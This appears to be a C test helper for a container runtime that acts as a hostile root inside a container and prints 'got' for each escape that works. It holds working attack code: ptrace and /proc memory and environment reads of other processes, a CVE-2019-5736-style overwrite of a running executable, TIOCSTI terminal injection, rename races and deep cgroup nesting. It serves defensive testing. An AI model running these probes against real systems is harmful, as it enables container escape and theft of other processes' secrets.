/* SPDX-License-Identifier: MIT */
/*
 * What a hostile root in a container tries. Each thing that works is a line "got WHAT".
 *
 * look PID...           into another process: its memory, its descriptors, its root, its environment, its executable
 * ambush FOLDER         into every new process, until FOLDER/stop is there; only processes of contain count. At the end
 *                       "seen N", which is how often one was found that could not be looked into.
 * overwrite PATH...     an executable or what else it leads to, as CVE-2019-5736 did it
 * push                  characters into the terminal on descriptor 0, and to open and take it
 * swap A B FOLDER       the two names, again and again, until FOLDER/stop is there
 * deep FOLDER           into cgroups below this one, deeper than a path is long, and stay
 * name TEXT             be called so, and stay
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define AHEAD 24 /* numbers that the next processes may have */

static void got(const char *what)
{
	printf("got %s\n", what);
}

static void try_open(const char *pid, const char *name, int flags)
{
	char path[PATH_MAX];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	fd = open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
	if (fd < 0)
		return;
	got(path);
	close(fd);
}

static void try_link(const char *pid, const char *name)
{
	char path[PATH_MAX], to[PATH_MAX];

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	if (readlink(path, to, sizeof(to)) >= 0)
		got(path);
}

/* What a folder of it has: the names may be seen, but not what they lead to. */
static void try_folder(const char *pid, const char *name)
{
	char path[PATH_MAX];
	struct dirent *entry;
	DIR *folder;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	folder = opendir(path);
	while (folder && (entry = readdir(folder))) {
		if (*entry->d_name == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", name, entry->d_name);
		try_link(pid, path);
		try_open(pid, path, O_RDONLY);
		try_open(pid, path, O_RDWR);
	}
	if (folder)
		closedir(folder);
}

/* In a process of its own, whose end lets go of what it traces. */
static void try_ptrace(const char *pid, long request, const char *what)
{
	int status;
	pid_t tracer = fork();

	if (tracer == 0)
		_exit(ptrace((enum __ptrace_request)request, atoi(pid), 0, 0) < 0);
	if (tracer > 0 && waitpid(tracer, &status, 0) == tracer && status == 0)
		got(what);
}

static void look(const char *pid)
{
	static const char *const files[] = { "mem", "environ", "maps", "smaps", "auxv", "pagemap", "root/", "cwd/" };
	static const char *const links[] = { "exe", "root", "cwd", "ns/mnt", "ns/pid" };
	char byte;
	struct iovec here = { &byte, 1 }, there = { (void *)4096, 1 };
	int pidfd = (int)syscall(SYS_pidfd_open, atoi(pid), 0);

	try_ptrace(pid, PTRACE_SEIZE, "ptrace(PTRACE_SEIZE)");
	try_ptrace(pid, PTRACE_ATTACH, "ptrace(PTRACE_ATTACH)");
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++)
		try_open(pid, files[i], O_RDONLY);
	try_open(pid, "mem", O_RDWR);
	try_open(pid, "exe", O_RDONLY);
	for (size_t i = 0; i < sizeof(links) / sizeof(*links); i++)
		try_link(pid, links[i]);
	try_folder(pid, "fd");
	try_folder(pid, "map_files");
	/* Permission comes first, and then whether there is anything. */
	if (process_vm_readv(atoi(pid), &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
		got("process_vm_readv");
	for (int fd = 0; fd < 64; fd++) {
		if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0 || errno == EBADF) {
			got("pidfd_getfd");
			break;
		}
	}
	puts("looked");
}

static bool is_there(const char *folder, const char *name)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/%s", folder, name);
	return access(path, F_OK) == 0;
}

/* 1: got something; 0: it is there, and closed; -1: there is none. */
static int pounce(int pid)
{
	char path[64], link[64], to[PATH_MAX] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return errno == ENOENT || errno == ESRCH ? -1 : 0;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	if (readlink(link, to, sizeof(to) - 1) > 0 && strstr(to, "contain")) {
		printf("got %s: %s\n", path, to);
		close(fd);
		return 1;
	}
	close(fd);
	return 0;
}

static void ambush(const char *folder)
{
	int next = getpid() + 1;
	unsigned long seen = 0;

	puts("ready");
	for (int round = 0; round % 256 || !is_there(folder, "stop"); round++) {
		int last = next - 1;

		for (int pid = next; pid < next + AHEAD; pid++) {
			int result = pounce(pid);

			seen += result == 0;
			/* Once more, as long as it is the newest. */
			last = result >= 0 ? pid - 1 : last;
		}
		next = last + 1 > next ? last + 1 : next;
	}
	printf("seen %lu\n", seen);
}

static void overwrite(const char *path)
{
	static const char evil[] = "#!/bin/sh\necho overwritten\n";
	char self[64], link[PATH_MAX] = "";
	int fd = open(path, O_RDONLY | O_CLOEXEC), to = -1;

	if (readlink(path, link, sizeof(link) - 1) < 0)
		perror(path);

	/* An executable that runs is busy: so again, until it has ended. */
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	for (int tries = 0; to < 0 && tries < 200; tries++) {
		to = open(fd < 0 ? path : self, O_WRONLY | O_CLOEXEC);
		if (to >= 0 || errno != ETXTBSY)
			break;
		nanosleep(&(struct timespec){ .tv_nsec = 1000000 }, NULL);
	}
	if (to >= 0 && write(to, evil, sizeof(evil) - 1) > 0)
		printf("got %s: %s\n", path, link);
	else
		printf("kept %s: %s: %s\n", path, link, strerrorname_np(errno));
}

static void push(void)
{
	int again;

	for (int fd = 0; fd < 3; fd++) {
		if (ioctl(fd, TIOCSTI, "x") == 0)
			got("TIOCSTI");
		if (ioctl(fd, TIOCSCTTY, 0) == 0 || ioctl(fd, TIOCSCTTY, 1) == 0)
			got("TIOCSCTTY");
	}
	/* A session's leader without a terminal gets the one that it opens, if it is nobody's. */
	again = open("/proc/self/fd/0", O_RDWR);
	if (again >= 0 && ioctl(again, TIOCSTI, "x") == 0)
		got("TIOCSTI on the terminal that was opened again");
	if (open("/dev/tty", O_RDWR) >= 0)
		got("/dev/tty");
	puts("pushed");
}

static void swap(const char *a, const char *b, const char *folder)
{
	puts("ready");
	fflush(stdout);
	for (int round = 0; round % 256 || !is_there(folder, "stop"); round++)
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

static void deep(const char *folder)
{
	char name[201];
	int fd;

	memset(name, 'd', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	if (chdir(folder) < 0)
		return;
	for (int depth = 0; depth < 30; depth++) {
		if (mkdir(name, 0700) < 0 || chdir(name) < 0)
			return;
	}
	fd = open("cgroup.procs", O_WRONLY);
	if (fd >= 0 && write(fd, "0", 1) == 1)
		puts("ready");
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (int i = 2; i < argc && strcmp(what, "look") == 0; i++)
		look(argv[i]);
	for (int i = 2; i < argc && strcmp(what, "overwrite") == 0; i++)
		overwrite(argv[i]);
	if (strcmp(what, "ambush") == 0 && argc == 3)
		ambush(argv[2]);
	if (strcmp(what, "deep") == 0 && argc == 3)
		deep(argv[2]);
	if (strcmp(what, "name") == 0 && argc == 3) {
		prctl(PR_SET_NAME, argv[2]);
		puts("ready");
		for (;;)
			pause();
	}
	if (strcmp(what, "push") == 0)
		push();
	if (strcmp(what, "swap") == 0 && argc == 5)
		swap(argv[2], argv[3], argv[4]);
	return 0;
}
